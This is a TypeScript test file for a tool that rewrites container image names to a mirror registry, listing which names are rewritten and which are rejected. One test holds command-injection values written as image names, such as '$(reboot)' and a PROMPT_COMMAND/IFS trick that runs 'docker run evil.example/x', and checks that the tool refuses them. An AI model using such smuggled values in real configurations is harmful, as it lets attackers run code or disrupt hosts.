// Images as they stand alone: what comes out for a host for everything, and for a host per registry.
import { describe, expect, it } from "vitest";
import { convert } from "../../../src/page/convert/convert.ts";
import { hasOddCharacters } from "../../../src/distribution/odd-characters.ts";
import { planImage } from "../../../src/page/convert/variables.ts";
import { PER_HOST, UNIVERSAL } from "./offers.ts";

const HEX = "0123456789abcdef".repeat(4);
const DIGEST = `sha256:${HEX}`;

/** `M/` stands for the host for everything, `H:` for a host of a registry. */
const REWRITTEN: readonly (readonly [from: string, universal: string, perHost: string])[] = [
  ["nginx", "M/nginx", "docker H/nginx"],
  ["nginx:1.27", "M/nginx:1.27", "docker H/nginx:1.27"],
  ["library/nginx", "M/library/nginx", "docker H/library/nginx"],
  ["grafana/grafana:11.4.0", "M/grafana/grafana:11.4.0", "docker H/grafana/grafana:11.4.0"],
  ["a/b/c/d", "M/a/b/c/d", "docker H/a/b/c/d"],
  ["a__b/c.d-e---f", "M/a__b/c.d-e---f", "docker H/a__b/c.d-e---f"],
  ["nginx:Latest_1.0-x", "M/nginx:Latest_1.0-x", "docker H/nginx:Latest_1.0-x"],
  ["docker.io/nginx", "M/nginx", "docker H/nginx"],
  ["docker.io/library/redis", "M/library/redis", "docker H/library/redis"],
  ["index.docker.io/library/redis:7", "M/library/redis:7", "docker H/library/redis:7"],
  ["registry-1.docker.io/library/redis", "M/library/redis", "docker H/library/redis"],
  ["DOCKER.IO/library/redis", "M/library/redis", "docker H/library/redis"],
  ["ghcr.io/a/b", "M/ghcr.io/a/b", "ghcr H/a/b"],
  ["GHCR.io/a/b", "M/ghcr.io/a/b", "ghcr H/a/b"],
  ["ghcr.io/a", "M/ghcr.io/a", "ghcr H/a"],
  [`ghcr.io/a/b@${DIGEST}`, `M/ghcr.io/a/b@${DIGEST}`, `ghcr H/a/b@${DIGEST}`],
  [`ghcr.io/a/b:v1@${DIGEST}`, `M/ghcr.io/a/b:v1@${DIGEST}`, `ghcr H/a/b:v1@${DIGEST}`],
  [`nginx@${DIGEST}`, `M/nginx@${DIGEST}`, `docker H/nginx@${DIGEST}`],
  ["nginx@blake3:abc", "M/nginx@blake3:abc", "docker H/nginx@blake3:abc"],
  ["lscr.io/linuxserver/x", "M/ghcr.io/linuxserver/x", "ghcr H/linuxserver/x"],
  ["registry.k8s.io/pause:3.10", "M/registry.k8s.io/pause:3.10", "k8s H/pause:3.10"],
  ["k8s.gcr.io/pause:3.5", "M/registry.k8s.io/pause:3.5", "k8s H/pause:3.5"],
  [
    "gcr.io/distroless/static:nonroot",
    "M/gcr.io/distroless/static:nonroot",
    "gcr H/distroless/static:nonroot",
  ],
  ["mcr.microsoft.com/dotnet/sdk:9.0", "M/mcr.microsoft.com/dotnet/sdk:9.0", "mcr H/dotnet/sdk:9.0"],
  // Variables in a tag or a digest.
  ["nginx:${TAG:-1.27}", "M/nginx:${TAG:-1.27}", "docker H/nginx:${TAG:-1.27}"],
  ["nginx:$TAG", "M/nginx:$TAG", "docker H/nginx:$TAG"],
  [
    "nginx:${MAJOR}.${MINOR}-alpine",
    "M/nginx:${MAJOR}.${MINOR}-alpine",
    "docker H/nginx:${MAJOR}.${MINOR}-alpine",
  ],
  ["ghcr.io/a/b@${D}", "M/ghcr.io/a/b@${D}", "ghcr H/a/b@${D}"],
  ["ghcr.io/a/b@sha256:$D", "M/ghcr.io/a/b@sha256:$D", "ghcr H/a/b@sha256:$D"],
  ["nginx${TAG:+:$TAG}", "M/nginx${TAG:+:$TAG}", "docker H/nginx${TAG:+:$TAG}"],
  ["nginx${D:+@$D}", "M/nginx${D:+@$D}", "docker H/nginx${D:+@$D}"],
  ["nginx:${TAG:?no_tag}", "M/nginx:${TAG:?no_tag}", "docker H/nginx:${TAG:?no_tag}"],
  // Behind a first part that is literal.
  ["ghcr.io/${OWNER}/app", "M/ghcr.io/${OWNER}/app", "ghcr H/${OWNER}/app"],
  ["ghcr.io/$IMAGE", "M/ghcr.io/$IMAGE", "ghcr H/$IMAGE"],
  ["ghcr.io/${A}${B}:${C}", "M/ghcr.io/${A}${B}:${C}", "ghcr H/${A}${B}:${C}"],
  ["ghcr.io/a/b-${ARCH}", "M/ghcr.io/a/b-${ARCH}", "ghcr H/a/b-${ARCH}"],
  ["library/${X}", "M/library/${X}", "docker H/library/${X}"],
  ["docker.io/${X}", "M/${X}", "docker H/${X}"],
  // Defaults.
  ["${IMG:-nginx:1.27}", "${IMG:-M/nginx:1.27}", "${IMG:-docker H/nginx:1.27}"],
  ["${IMG-nginx}", "${IMG-M/nginx}", "${IMG-docker H/nginx}"],
  ["${IMG:-ghcr.io/a/b}", "${IMG:-M/ghcr.io/a/b}", "${IMG:-ghcr H/a/b}"],
  ["${REG:-ghcr.io}/a/b", "${REG:-M/ghcr.io}/a/b", "${REG:-ghcr}/a/b"],
  ["${REG:-docker.io}/a/b", "${REG:-M}/a/b", "${REG:-docker}/a/b"],
  ["${REG:-ghcr.io/}a/b", "${REG:-M/ghcr.io/}a/b", "${REG:-ghcr H/}a/b"],
  ["${REG:-}nginx", "${REG:-M/}nginx", "${REG:-docker H/}nginx"],
  ["${REPO:-nginx}:${TAG}", "${REPO:-M/nginx}:${TAG}", "${REPO:-docker H/nginx}:${TAG}"],
  ["${R:-ghcr.io/a}/b:${T}", "${R:-M/ghcr.io/a}/b:${T}", "${R:-ghcr H/a}/b:${T}"],
  ["${OWNER:-library}/nginx", "${OWNER:-M/library}/nginx", "${OWNER:-docker H/library}/nginx"],
  ["${A:-${B:-nginx}}", "${A:-${B:-M/nginx}}", "${A:-${B:-docker H/nginx}}"],
  ["${R:-ghcr.io}/${O:-a}/b", "${R:-M/ghcr.io}/${O:-a}/b", "${R:-ghcr}/${O:-a}/b"],
];

const LEFT: readonly (readonly [text: string, reason: string, registry?: string])[] = [
  ["quay.io/coreos/etcd:v3.5.17", "not-served", "quay.io"],
  ["Quay.io/coreos/etcd", "not-served", "Quay.io"],
  ["localhost/x", "not-served", "localhost"],
  ["localhost:5000/x", "not-served", "localhost:5000"],
  ["registry.example.org:5000/a/b", "not-served", "registry.example.org:5000"],
  ["docker.io:443/nginx", "not-served", "docker.io:443"],
  ["127.0.0.1/x", "not-served", "127.0.0.1"],
  ["[::1]:5000/x", "not-served", "[::1]:5000"],
  ["[2001:db8::1]/x", "not-served", "[2001:db8::1]"],
  ["Nginx/x", "not-served", "Nginx"],
  ["${REG:-quay.io}/a/b", "not-served", "quay.io"],
  ["localhost:${PORT:-5000}/x", "not-served", "localhost:5000"],
  ["mirror.example.com/nginx", "already"],
  ["Mirror.Example.com/nginx", "already"],
  ["mirror.example.com/ghcr.io/a/b:1", "already"],
  ["localhost:8787/nginx", "already"],
  ["mirror.example.com/${X}", "already"],
  ["${REG:-mirror.example.com}/nginx", "already"],
  ["${IMG:-mirror.example.com/ghcr.io/a/b}", "already"],
  ["$IMG", "variable"],
  ["${IMG}", "variable"],
  ["${REG}/a/b", "variable"],
  ["${REG}nginx", "variable"],
  ["${REG:+$REG/}nginx", "variable"],
  ["${REG:?missing}/nginx", "variable"],
  ["nginx${X}", "variable"],
  ["nginx${X}:1", "variable"],
  ["ghcr.io${X}", "invalid"],
  ["${X:-ghcr}.io/a/b", "variable"],
  ["ghcr.${TLD}/a/b", "variable"],
  ["localhost:${PORT}/x", "variable"],
  ["${A:-${B:-${C:-${D:-${E:-nginx}}}}}", "variable"],
  ["${A%x}/b", "variable"],
  ["Nginx", "invalid"],
  ["a/B", "invalid"],
  ["nginx/", "invalid"],
  ["/nginx", "invalid"],
  ["a//b", "invalid"],
  ["nginx:", "invalid"],
  [":1", "invalid"],
  ["nginx:-1", "invalid"],
  ["nginx@", "invalid"],
  ["nginx@sha256:0123", "invalid"],
  [`nginx@sha256:${HEX.toUpperCase()}`, "invalid"],
  ["ghcr.io:123456/a", "invalid"],
  ["docker://nginx", "invalid"],
  ["https://ghcr.io/a/b", "invalid"],
  ["ghcr.io/", "invalid"],
  ["a_-b", "invalid"],
  ["é/x", "invalid"],
  ["nginх", "invalid"],
  ["a".repeat(256), "invalid"],
  [`nginx:${"a".repeat(129)}`, "invalid"],
  [`ghcr.io/${"a/".repeat(600)}a`, "invalid"],
  [`nginx:\${A:-${"a".repeat(1100)}}`, "invalid"],
  ["$", "invalid"],
  ["$$", "invalid"],
  ["$$a", "invalid"],
  ["nginx:$$", "invalid"],
  ["${}", "invalid"],
  ["${A", "invalid"],
  ["nginx:${A", "invalid"],
  ["${A}/B", "invalid"],
  ["${A}//b", "invalid"],
  ["a/b@${D}:$", "invalid"],
  ["nginx;${A}", "invalid"],
  ["nginx\u202e", "odd-characters"],
  ["ng\u200binx", "odd-characters"],
  ["ng\u0000inx", "odd-characters"],
  ["ng\u2028inx", "odd-characters"],
  ["nginx:${A:-\u202e}", "odd-characters"],
  ["nginx${A:+:\u202e}", "odd-characters"],
];

const inUniversal = (text: string): string => text.replace(/\bM\b/, "mirror.example.com");
const inPerHost = (text: string): string =>
  text.replace(/\b(docker|ghcr|k8s|gcr|mcr)(?: H|(?=\}\/))/, "$1.example.com");

describe("an image's name that is rewritten", () => {
  it.each(REWRITTEN)("%s", (from, universal, perHost) => {
    for (const [offer, to] of [
      [UNIVERSAL, inUniversal(universal)],
      [PER_HOST, inPerHost(perHost)],
    ] as const) {
      expect(planImage(from, offer)).toEqual({ ok: true, to });
      // What a shell makes of a variable can be a second command: names with one are for files only (S23).
      expect(convert(` ${from}\n`, offer)).toEqual(
        from.includes("$")
          ? { kind: "image", text: "", rewritten: [], left: [{ line: 1, image: from, reason: "variable" }] }
          : { kind: "image", text: to, rewritten: [{ line: 1, from, to }], left: [] },
      );
      expect(planImage(to, offer)).toMatchObject({ ok: false, reason: "already" });
    }
  });
});

describe("an image's name that is left", () => {
  it.each(LEFT.map(([text, reason, registry]) => [text, reason, registry] as const))(
    "%s: %s",
    (text, reason, registry) => {
      const why = registry === undefined ? { reason } : { reason, registry };
      expect(planImage(text, UNIVERSAL)).toEqual({ ok: false, ...why });
      // U+2028 is white space too, and what ends in a colon is YAML.
      if (/\s|:$/.test(text)) return;
      const { kind, text: result, left } = convert(text, UNIVERSAL);
      const alone = text.includes("$") && reason !== "odd-characters" ? { reason: "variable" } : why;
      expect({ kind, result, left }).toEqual({
        kind: "image",
        result: !text.includes("$") && ["not-served", "already"].includes(reason) ? text : "",
        left: [{ line: 1, image: text.slice(0, 200), ...alone }],
      });
    },
  );

  it("is shown without half a character", () => {
    const [left] = convert(`${"a".repeat(199)}😀`, UNIVERSAL).left;
    expect(left?.image).toBe("a".repeat(199));
  });

  it("is not handed on with what a shell would run, though files may have it", () => {
    const text = "nginx:$(TAG)";
    expect(planImage(text, UNIVERSAL)).toMatchObject({ ok: true, to: "mirror.example.com/nginx:$(TAG)" });
    expect(convert(text, UNIVERSAL)).toMatchObject({ kind: "image", text: "", rewritten: [] });
    expect(convert("${A:-nginx$(reboot)}", UNIVERSAL).text).toBe("");
    expect(convert("${A:-$(reboot)}", UNIVERSAL).text).toBe("");
    expect(convert("${A?`reboot`}", UNIVERSAL).text).toBe("");
    expect(convert("${A:?>x}", UNIVERSAL).text).toBe("");
    for (const name of [
      "nginx:${PROMPT_COMMAND:=docker${IFS%??}run${IFS%??}evil.example/x}",
      "nginx${HOME:+:1${IFS}evil.example/x}",
      "$SHELL",
      "nginx:$TAG",
    ]) {
      expect(convert(name, UNIVERSAL)).toMatchObject({
        text: "",
        rewritten: [],
        left: [{ reason: "variable" }],
      });
    }
  });

  it.each([
    "docker.io/ghcr.io/x/y",
    "index.docker.io/lscr.io/x/y",
    "docker.io/docker.io/x",
    "docker.io/harbor.example/x",
    "ghcr.io/ghcr.io/x/y",
    "docker.io/my.name",
    "${R:-docker.io}/ghcr.io/x",
    "${R:-docker.io/}ghcr.io/x",
  ])("is what would be another registry's behind a host of this proxy: %s", (text) => {
    for (const offer of [UNIVERSAL, PER_HOST])
      expect(planImage(text, offer)).toEqual({ ok: false, reason: "invalid" });
  });

  it("is not what has a dot where a registry has such names", () => {
    expect(planImage("gcr.io/google.com/cloudsdktool/google-cloud-cli", UNIVERSAL)).toMatchObject({
      ok: true,
    });
    expect(planImage("ghcr.io/foo.bar/baz", PER_HOST)).toEqual({
      ok: true,
      to: "ghcr.example.com/foo.bar/baz",
    });
  });

  it("is odd by what cannot be seen, and not by letters of other languages", () => {
    expect(["a\u00adb", "a\ufeffb", "a\u2066b"].every(hasOddCharacters)).toBe(true);
    expect(["é", "日本", "a b"].some(hasOddCharacters)).toBe(false);
  });
});
